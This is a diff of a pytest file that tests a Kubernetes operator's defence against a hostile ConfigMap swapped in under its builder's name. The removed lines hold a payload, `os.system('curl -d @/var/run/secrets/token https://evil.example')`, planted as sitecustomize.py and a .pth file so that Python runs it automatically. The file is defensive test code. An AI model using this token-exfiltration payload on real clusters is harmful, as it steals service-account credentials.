@@ -44,37 +44,16 @@ from tests.controllers.rayservegraph_fixtures import (
 )
 from tests.servegraph.artifact_server import ArtifactServer
 from tests.servegraph.graphs import document, pipeline_graph
+from tests.servegraph.planted import PAYLOAD, PLANTED_WORDS, planted_builder_configmap
 
 __all__ = ["artifacts", "registry_secrets", "start_graph_operator"]  # fixtures, used by name
 
 NAME = builder_configmap_name("pipeline")
-EVIL = "import os; os.system('curl -d @/var/run/secrets/token https://evil.example')"
 ONLY_THE_MODULE = [{"key": BUILDER_FILE, "path": BUILDER_FILE}]
 
 
-def planted(uid: str | None, *, labelled: bool = True, **extra: Any) -> dict[str, Any]:
-    """A hostile ConfigMap of the builder's name: a module of the attacker's, a
-    `sitecustomize.py` and a `.pth` in binaryData; with `uid`, an ownerReference forged to it."""
-    metadata: dict[str, Any] = {"name": NAME, **extra}
-    if labelled:
-        metadata["labels"] = {GRAPH_LABEL: "pipeline"}
-    if uid is not None:
-        metadata["ownerReferences"] = [
-            {
-                "apiVersion": "ray-operator.io/v1alpha1",
-                "kind": "RayServeGraph",
-                "name": "pipeline",
-                "uid": uid,
-                "controller": True,
-            }
-        ]
-    return {
-        "apiVersion": "v1",
-        "kind": "ConfigMap",
-        "metadata": metadata,
-        "data": {BUILDER_FILE: EVIL, "sitecustomize.py": EVIL},
-        "binaryData": {"zz-evil.pth": base64.b64encode(EVIL.encode()).decode()},
-    }
+def planted(uid: str | None, *, labelled: bool = True, **metadata: Any) -> dict[str, Any]:
+    return planted_builder_configmap("pipeline", owner_uid=uid, labelled=labelled, **metadata)
 
 
 async def graph_uid(harness: Harness) -> str:
@@ -110,9 +89,7 @@ def builder_volumes(cluster_config: dict[str, Any]) -> list[dict[str, Any]]:
 async def assert_nothing_planted_is_shown(harness: Harness) -> None:
     shown = json.dumps(await graph_status(harness, "pipeline"))
     shown += json.dumps([event["message"] for event in await events_about(harness, "pipeline")])
-    assert "sitecustomize" not in shown
-    assert "evil" not in shown
-    assert ".pth" not in shown
+    assert not [word for word in PLANTED_WORDS if word in shown]
 
 
 async def deployed(
@@ -163,9 +140,9 @@ async def test_a_planted_configmap_claiming_the_graph_is_replaced_before_the_ray
 @pytest.mark.parametrize(
     "patch",
     [
-        {"data": {"sitecustomize.py": EVIL}},
-        {"data": {BUILDER_FILE: EVIL}},
-        {"binaryData": {"zz-evil.pth": base64.b64encode(EVIL.encode()).decode()}},
+        {"data": {"sitecustomize.py": PAYLOAD}},
+        {"data": {BUILDER_FILE: PAYLOAD}},
+        {"binaryData": {"zz-evil.pth": base64.b64encode(PAYLOAD.encode()).decode()}},
         {"immutable": False},
     ],
     ids=["extra key", "module", "binaryData", "mutable again"],
@@ -184,16 +161,19 @@ async def test_the_api_server_refuses_any_change_of_the_written_configmap(
     assert after["metadata"]["resourceVersion"] == written["metadata"]["resourceVersion"]
 
 
-async def test_a_configmap_swapped_in_with_a_forged_owner_is_replaced_again(
+@pytest.mark.parametrize("forged_owner", [True, False], ids=["forged owner", "no owner"])
+async def test_a_configmap_swapped_in_under_the_name_the_graph_mounts_is_replaced(
     harness: Harness,
     artifacts: ArtifactServer,
     registry_secrets: None,
     start_graph_operator: StartGraphOperator,
+    forged_owner: bool,
 ) -> None:
     """Who may delete and create ConfigMaps can swap one in (unlabelled: the operator's cache
-    never sees it); the operator finds it by name and puts its own back."""
+    never sees it); the operator finds it by name and puts its own back — claiming the graph or
+    not, the name is the graph's once its RayService mounts it."""
     written = await deployed(harness, artifacts, start_graph_operator)
-    uid = await graph_uid(harness)
+    uid = await graph_uid(harness) if forged_owner else None
     await start_graph_operator.stop_all()
     await harness.kubectl("delete", "configmap", NAME)
     swapped = await harness.client.create(
@@ -209,36 +189,65 @@ async def test_a_configmap_swapped_in_with_a_forged_owner_is_replaced_again(
     await assert_nothing_planted_is_shown(harness)
 
 
-async def test_a_configmap_not_claiming_the_graph_leaves_the_rayservice_as_it_was(
+async def test_a_foreign_configmap_there_before_the_first_deployment_is_left_alone(
     harness: Harness,
     artifacts: ArtifactServer,
     registry_secrets: None,
     start_graph_operator: StartGraphOperator,
 ) -> None:
-    """Someone else's ConfigMap of that name is neither used nor changed: `Deployed` says so in
-    a fixed message, and the RayService is not updated while it is there."""
-    await deployed(harness, artifacts, start_graph_operator)
-    await start_graph_operator.stop_all()
-    await harness.kubectl("delete", "configmap", NAME)
+    """A ConfigMap of that name that does not claim the graph, before the graph mounts the name,
+    may be someone else's: neither used nor changed, nothing deployed, and `Deployed` and a
+    Warning say what was found in fixed words."""
     theirs = await harness.client.create(CONFIG_MAP, planted(None), namespace=harness.namespace)
-    before = await harness.client.get(RAY_SERVICE, "pipeline", namespace=harness.namespace)
-    manifest = rayservegraph("pipeline", artifacts.url(GRAPH_PATH))
-    head = manifest["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
-    head["containers"][0]["image"] = "rayproject/ray:2.60.0-py311"
-    await harness.apply(manifest)
-
+    artifacts.serve(GRAPH_PATH, document(pipeline_graph()), token=TOKEN)
     await start_graph_operator()
+    await harness.apply(rayservegraph("pipeline", artifacts.url(GRAPH_PATH)))
+
     status = await wait_for_condition(
         harness, "pipeline", "Deployed", status="False", reason="BuilderConfigMapConflict"
     )
-    assert NAME in condition(status, "Deployed")["message"]
+    message = condition(status, "Deployed")["message"]
+    assert NAME in message
+    assert "data keys besides the module" in message
     kept = await harness.client.get(CONFIG_MAP, NAME, namespace=harness.namespace)
     assert kept["metadata"]["resourceVersion"] == theirs["metadata"]["resourceVersion"]
-    after = await harness.client.get(RAY_SERVICE, "pipeline", namespace=harness.namespace)
-    assert after["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]
+    assert (await harness.client.list(RAY_SERVICE, namespace=harness.namespace)).items == []
     reasons = [event["reason"] for event in await events_about(harness, "pipeline")]
     assert "BuilderConfigMapConflict" in reasons
     await assert_nothing_planted_is_shown(harness)
+
+
+async def test_our_labels_and_owner_taken_off_the_configmap_are_put_back(
+    harness: Harness,
+    artifacts: ArtifactServer,
+    registry_secrets: None,
+    start_graph_operator: StartGraphOperator,
+) -> None:
+    """Metadata stays patchable on an immutable ConfigMap: without our label it leaves the
+    operator's cache, which finds it by name, still exact, and labels and owns it again."""
+    written = await deployed(harness, artifacts, start_graph_operator)
+    await harness.kubectl(
+        "patch",
+        "configmap",
+        NAME,
+        "--type=json",
+        "-p",
+        json.dumps(
+            [
+                {"op": "remove", "path": "/metadata/labels"},
+                {"op": "remove", "path": "/metadata/ownerReferences"},
+            ]
+        ),
+    )
+
+    async def restored() -> dict[str, Any] | None:
+        found = await harness.client.get(CONFIG_MAP, NAME, namespace=harness.namespace)
+        labels = found["metadata"].get("labels") or {}
+        owned = found["metadata"].get("ownerReferences")
+        return found if labels.get(GRAPH_LABEL) == "pipeline" and owned else None
+
+    found = await eventually(restored, what="our label and ownerReference back")
+    assert found["metadata"]["uid"] == written["metadata"]["uid"]
 
 
 async def test_an_exact_immutable_copy_made_by_someone_else_is_used_and_adopted(
